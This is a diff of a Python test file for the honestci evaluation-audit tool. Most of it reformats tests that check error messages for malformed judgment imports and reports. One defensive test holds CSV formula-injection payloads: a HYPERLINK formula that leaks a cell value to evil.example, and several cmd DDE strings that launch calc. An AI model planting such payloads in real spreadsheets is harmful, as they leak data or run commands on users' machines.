+    "question_id": 81,
+    "model_1": "a",
+    "model_2": "b",
+    "g1_winner": "model_1",
+    "g2_winner": "model_2",
+    "judge": ["gpt-4", "pair-v2"],
+    "turn": 1,
+}
+GENERIC_MAP = (
+    "--map",
+    "vignette_id=q",
+    "--map",
+    "response_first=a",
+    "--map",
+    "response_second=b",
+    "--map",
+    "verdict=w",
+    "--judge",
+    "j",
+)
 
 
 def _alpaca(*records) -> bytes:
@@ -433,56 +686,133 @@ def _alpaca(*records) -> bytes:
 
 
 IMPORTER_CASES = [
-    Case("alpaca-not-json", importer("alpaca_eval", "annotations.json", b"[{\"instruction\": "),
-         ("annotations.json: not readable JSON",)),
-    Case("alpaca-not-a-list", importer("alpaca_eval", "annotations.json", b'{"a": 1}'),
-         ("annotations.json: expected a JSON list of annotations, got a JSON dict",)),
-    Case("alpaca-record-not-object", importer("alpaca_eval", "annotations.json", _alpaca(ALPACA_RECORD, 17)),
-         ("annotations.json, line 2: is a JSON int, not an object",)),
-    Case("alpaca-missing-output", importer("alpaca_eval", "annotations.json",
-                                           _alpaca({k: v for k, v in ALPACA_RECORD.items() if k != "output_1"})),
-         ("annotations.json, line 1, field 'output_1': missing or not text",)),
-    Case("alpaca-continuous-preference", importer("alpaca_eval", "annotations.json",
-                                                  _alpaca({**ALPACA_RECORD, "preference": 1.73})),
-         ("annotations.json, line 1, field 'preference': 1.73 is not 1, 2 or a draw",)),
-    Case("alpaca-non-utf8", importer("alpaca_eval", "annotations.json", b'[{"instruction": "caf\xe9"}]'),
-         ("annotations.json: not readable JSON", "UTF-8")),
-    Case("alpaca-empty-list", importer("alpaca_eval", "annotations.json", b"[]"),
-         ("No judgments found in", "annotations.json")),
-    Case("alpaca-duplicate-record", importer("alpaca_eval", "annotations.json", _alpaca(ALPACA_RECORD, ALPACA_RECORD)),
-         ("annotations.json, line 2: ordered pair", "judged twice by 'gpt4'")),
-    Case("alpaca-bad-gzip", importer("alpaca_eval", "annotations.json.gz", b"\x1f\x8b\x08garbage"),
-         ("annotations.json.gz: not readable JSON",)),
-    Case("pandalm-not-a-list", importer("pandalm", "testset-v1.json", b'{"idx": 1}'),
-         ("testset-v1.json: expected a JSON list of test-set items",)),
-    Case("pandalm-record-not-object", importer("pandalm", "testset-v1.json", b'["text"]'),
-         ("testset-v1.json, line 1: is a JSON str, not an object",)),
-    Case("pandalm-missing-idx", importer("pandalm", "testset-v1.json", b'[{"instruction": "x", "cmp_key": "a_b"}]'),
-         ("testset-v1.json, line 1, field 'idx': missing",)),
-    Case("mtbench-truncated-line", importer("mtbench", "gpt-4_pair.jsonl",
-                                            (json.dumps(MT_RECORD) + "\n" + json.dumps(MT_RECORD)[:30]).encode()),
-         ("gpt-4_pair.jsonl, line 2: not valid JSON",)),
-    Case("mtbench-non-utf8", importer("mtbench", "gpt-4_pair.jsonl", json.dumps(MT_RECORD).encode() + b"\n\xff\xfe\n"),
-         ("gpt-4_pair.jsonl, line 2", "UTF-8")),
-    Case("mtbench-line-not-object", importer("mtbench", "gpt-4_pair.jsonl", b"[1, 2]\n"),
-         ("gpt-4_pair.jsonl, line 1: is a JSON list, not an object",)),
-    Case("mtbench-turn-not-a-number", importer("mtbench", "gpt-4_pair.jsonl", json.dumps({**MT_RECORD, "turn": "two"}).encode()),
-         ("gpt-4_pair.jsonl, line 1, field 'turn'", "not an integer")),
-    Case("mtbench-unknown-winner", importer("mtbench", "gpt-4_pair.jsonl", json.dumps({**MT_RECORD, "g1_winner": "both"}).encode()),
-         ("gpt-4_pair.jsonl, line 1, field 'g1_winner': 'both' is not model_1, model_2, tie or error",)),
-    Case("mtbench-empty-file", importer("mtbench", "gpt-4_pair.jsonl", b""), ("No judgments found in", "gpt-4_pair.jsonl")),
-    Case("generic-non-utf8-csv", importer("generic", "j.csv", b"q,a,b,w\nv1,x,y,first\nv2,caf\xe9,y,first\n", *GENERIC_MAP),
-         ("j.csv, line 3", "UTF-8")),
-    Case("generic-corrupt-parquet", importer("generic", "j.parquet", b"PAR1 not really", *GENERIC_MAP),
-         ("j.parquet: not a readable Parquet file",)),
-    Case("generic-unmapped-verdict", importer("generic", "j.csv", b"q,a,b,w\nv1,x,y,A\n", *GENERIC_MAP),
-         ("j.csv, line 2, field 'w': value 'A' has no verdict mapping",)),
-    Case("generic-absent-column", importer("generic", "j.csv", b"q,a,w\nv1,x,first\n", *GENERIC_MAP),
-         ("j.csv, line 2, field 'b': column 'b' (mapped to response_second) is absent",)),
-    Case("generic-unknown-extension", importer("generic", "j.xlsx", b"PK", *GENERIC_MAP), ("j.xlsx: unknown table format",)),
-    Case("generic-header-only", importer("generic", "j.csv", b"q,a,b,w\n", *GENERIC_MAP), ("No judgments found in", "j.csv")),
-    Case("generic-missing-file", lambda tmp: ["import", "generic", str(tmp / "none.csv"), "--out", str(tmp / "out" / "j.jsonl"),
-                                              *GENERIC_MAP], ("none.csv: file not found",)),
+    Case(
+        "alpaca-not-json",
+        importer("alpaca_eval", "annotations.json", b'[{"instruction": '),
+        ("annotations.json: not readable JSON",),
+    ),
+    Case(
+        "alpaca-not-a-list",
+        importer("alpaca_eval", "annotations.json", b'{"a": 1}'),
+        ("annotations.json: expected a JSON list of annotations, got a JSON dict",),
+    ),
+    Case(
+        "alpaca-record-not-object",
+        importer("alpaca_eval", "annotations.json", _alpaca(ALPACA_RECORD, 17)),
+        ("annotations.json, line 2: is a JSON int, not an object",),
+    ),
+    Case(
+        "alpaca-missing-output",
+        importer(
+            "alpaca_eval", "annotations.json", _alpaca({k: v for k, v in ALPACA_RECORD.items() if k != "output_1"})
+        ),
+        ("annotations.json, line 1, field 'output_1': missing or not text",),
+    ),
+    Case(
+        "alpaca-continuous-preference",
+        importer("alpaca_eval", "annotations.json", _alpaca({**ALPACA_RECORD, "preference": 1.73})),
+        ("annotations.json, line 1, field 'preference': 1.73 is not 1, 2 or a draw",),
+    ),
+    Case(
+        "alpaca-non-utf8",
+        importer("alpaca_eval", "annotations.json", b'[{"instruction": "caf\xe9"}]'),
+        ("annotations.json: not readable JSON", "UTF-8"),
+    ),
+    Case(
+        "alpaca-empty-list",
+        importer("alpaca_eval", "annotations.json", b"[]"),
+        ("No judgments found in", "annotations.json"),
+    ),
+    Case(
+        "alpaca-duplicate-record",
+        importer("alpaca_eval", "annotations.json", _alpaca(ALPACA_RECORD, ALPACA_RECORD)),
+        ("annotations.json, line 2: ordered pair", "judged twice by 'gpt4'"),
+    ),
+    Case(
+        "alpaca-bad-gzip",
+        importer("alpaca_eval", "annotations.json.gz", b"\x1f\x8b\x08garbage"),
+        ("annotations.json.gz: not readable JSON",),
+    ),
+    Case(
+        "pandalm-not-a-list",
+        importer("pandalm", "testset-v1.json", b'{"idx": 1}'),
+        ("testset-v1.json: expected a JSON list of test-set items",),
+    ),
+    Case(
+        "pandalm-record-not-object",
+        importer("pandalm", "testset-v1.json", b'["text"]'),
+        ("testset-v1.json, line 1: is a JSON str, not an object",),
+    ),
+    Case(
+        "pandalm-missing-idx",
+        importer("pandalm", "testset-v1.json", b'[{"instruction": "x", "cmp_key": "a_b"}]'),
+        ("testset-v1.json, line 1, field 'idx': missing",),
+    ),
+    Case(
+        "mtbench-truncated-line",
+        importer("mtbench", "gpt-4_pair.jsonl", (json.dumps(MT_RECORD) + "\n" + json.dumps(MT_RECORD)[:30]).encode()),
+        ("gpt-4_pair.jsonl, line 2: not valid JSON",),
+    ),
+    Case(
+        "mtbench-non-utf8",
+        importer("mtbench", "gpt-4_pair.jsonl", json.dumps(MT_RECORD).encode() + b"\n\xff\xfe\n"),
+        ("gpt-4_pair.jsonl, line 2", "UTF-8"),
+    ),
+    Case(
+        "mtbench-line-not-object",
+        importer("mtbench", "gpt-4_pair.jsonl", b"[1, 2]\n"),
+        ("gpt-4_pair.jsonl, line 1: is a JSON list, not an object",),
+    ),
+    Case(
+        "mtbench-turn-not-a-number",
+        importer("mtbench", "gpt-4_pair.jsonl", json.dumps({**MT_RECORD, "turn": "two"}).encode()),
+        ("gpt-4_pair.jsonl, line 1, field 'turn'", "not an integer"),
+    ),
+    Case(
+        "mtbench-unknown-winner",
+        importer("mtbench", "gpt-4_pair.jsonl", json.dumps({**MT_RECORD, "g1_winner": "both"}).encode()),
+        ("gpt-4_pair.jsonl, line 1, field 'g1_winner': 'both' is not model_1, model_2, tie or error",),
+    ),
+    Case(
+        "mtbench-empty-file",
+        importer("mtbench", "gpt-4_pair.jsonl", b""),
+        ("No judgments found in", "gpt-4_pair.jsonl"),
+    ),
+    Case(
+        "generic-non-utf8-csv",
+        importer("generic", "j.csv", b"q,a,b,w\nv1,x,y,first\nv2,caf\xe9,y,first\n", *GENERIC_MAP),
+        ("j.csv, line 3", "UTF-8"),
+    ),
+    Case(
+        "generic-corrupt-parquet",
+        importer("generic", "j.parquet", b"PAR1 not really", *GENERIC_MAP),
+        ("j.parquet: not a readable Parquet file",),
+    ),
+    Case(
+        "generic-unmapped-verdict",
+        importer("generic", "j.csv", b"q,a,b,w\nv1,x,y,A\n", *GENERIC_MAP),
+        ("j.csv, line 2, field 'w': value 'A' has no verdict mapping",),
+    ),
+    Case(
+        "generic-absent-column",
+        importer("generic", "j.csv", b"q,a,w\nv1,x,first\n", *GENERIC_MAP),
+        ("j.csv, line 2, field 'b': column 'b' (mapped to response_second) is absent",),
+    ),
+    Case(
+        "generic-unknown-extension",
+        importer("generic", "j.xlsx", b"PK", *GENERIC_MAP),
+        ("j.xlsx: unknown table format",),
+    ),
+    Case(
+        "generic-header-only",
+        importer("generic", "j.csv", b"q,a,b,w\n", *GENERIC_MAP),
+        ("No judgments found in", "j.csv"),
+    ),
+    Case(
+        "generic-missing-file",
+        lambda tmp: ["import", "generic", str(tmp / "none.csv"), "--out", str(tmp / "out" / "j.jsonl"), *GENERIC_MAP],
+        ("none.csv: file not found",),
+    ),
     Case("import-out-parent-is-a-file", lambda tmp: _import_into_file(tmp), ("Cannot write", "blocker")),
 ]
 
@@ -496,6 +826,7 @@ def _import_into_file(tmp_path: Path) -> list[str]:
 
 # --- report -----------------------------------------------------------------------------------
 
+
 def report_of(content: bytes, *extra: str) -> Callable[[Path], list[str]]:
     def build(tmp_path: Path) -> list[str]:
         (tmp_path / "verdict.json").write_bytes(content)
@@ -507,10 +838,26 @@ def report_of(content: bytes, *extra: str) -> Callable[[Path], list[str]]:
 REPORT_CASES = [
     Case("report-not-json", report_of(b"{not json"), ("verdict.json is not valid JSON",)),
     Case("report-json-list", report_of(b"[1, 2]"), ("verdict.json holds a JSON list, not a report object",)),
-    Case("report-missing-keys", report_of(b'{"schema_version": 1}'), ("verdict.json is not an honestci report: missing",)),
-    Case("report-wrong-shapes", report_of(json.dumps({"schema_version": 1, "claim": "x", "verdict": 3, "gates": "none",
-                                                      "intervals": {}, "contests": [], "provenance": 0}).encode()),
-         ("verdict.json is not an honestci report", "'claim' must be an object")),
+    Case(
+        "report-missing-keys", report_of(b'{"schema_version": 1}'), ("verdict.json is not an honestci report: missing",)
+    ),
+    Case(
+        "report-wrong-shapes",
+        report_of(
+            json.dumps(
+                {
+                    "schema_version": 1,
+                    "claim": "x",
+                    "verdict": 3,
+                    "gates": "none",
+                    "intervals": {},
+                    "contests": [],
+                    "provenance": 0,
+                }
+            ).encode()
+        ),
+        ("verdict.json is not an honestci report", "'claim' must be an object"),
+    ),
     Case("report-missing-file", lambda tmp: ["report", str(tmp / "nope.json")], ("nope.json does not exist",)),
 ]
 
@@ -543,6 +890,7 @@ def test_the_suite_tries_at_least_fifty_distinct_bad_inputs():
 
 # --- odd but valid inputs ---------------------------------------------------------------------
 
+
 def _verdict(tmp_path: Path) -> dict:
     return json.loads((tmp_path / "out" / "verdict.json").read_text())
 
@@ -567,7 +915,10 @@ def test_single_vignette_is_inconclusive_and_blocks(tmp_path):
     verdict = _verdict(tmp_path)
     assert verdict["verdict"] == "INCONCLUSIVE"
     gates = {g["gate"]: g for g in verdict["gates"]}
-    assert gates["enough_clusters"]["verdict"] == "INCONCLUSIVE" and "1 vignette(s) < 5" in gates["enough_clusters"]["message"]
+    assert (
+        gates["enough_clusters"]["verdict"] == "INCONCLUSIVE"
+        and "1 vignette(s) < 5" in gates["enough_clusters"]["message"]
+    )
     assert gates["ci_low_clears_bar"]["verdict"] == "INCONCLUSIVE"
     clustered = [r for r in verdict["intervals"] if r["population"] == "new_vignettes"]
     assert clustered and all(r["ci_low"] is None for r in clustered)
@@ -590,8 +941,12 @@ def test_byte_order_marks_are_accepted_in_jsonl_csv_and_the_claim(tmp_path):
 def test_formula_looking_csv_cells_are_kept_as_plain_data(tmp_path):
     from honestci.audit.data.io import load_table
 
-    formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-                "-2+3+cmd|' /C calc'!A0"]
+    formulas = [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+    ]
     rows = [{"vignette_id": f"v{i}", "text": text} for i, text in enumerate(formulas)]
     path = tmp_path / "vignettes.csv"
     path.write_bytes(csv_bytes(rows))
@@ -651,13 +1006,21 @@ def test_inputs_in_every_format_give_the_same_audit(tmp_path):
 
 # --- end to end: the real process prints no traceback ----------------------------------------
 
-@pytest.mark.parametrize("case_id", ["jsonl-truncated-last-line", "claim-python-object-tag", "alpaca-non-utf8",
-                                     "claim-threshold-wrong-type"])
+
+@pytest.mark.parametrize(
+    "case_id", ["jsonl-truncated-last-line", "claim-python-object-tag", "alpaca-non-utf8", "claim-threshold-wrong-type"]
+)
 def test_real_process_exits_2_without_traceback(case_id, tmp_path):
     case = next(c for c in ALL_BAD if c.id == case_id)
     args = case.build(tmp_path)
-    result = subprocess.run([sys.executable, "-m", "honestci", *args], capture_output=True, text=True,
-                            cwd=REPO_ROOT, timeout=120, env={**os.environ, "PYTHONPATH": str(REPO_ROOT)})
+    result = subprocess.run(
+        [sys.executable, "-m", "honestci", *args],
+        capture_output=True,
+        text=True,
+        cwd=REPO_ROOT,
+        timeout=120,
+        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
+    )
     assert result.returncode == 2, result.stderr
     assert "Traceback" not in result.stderr and "\nerror: " in "\n" + result.stderr
     assert case.expect[0] in result.stderr
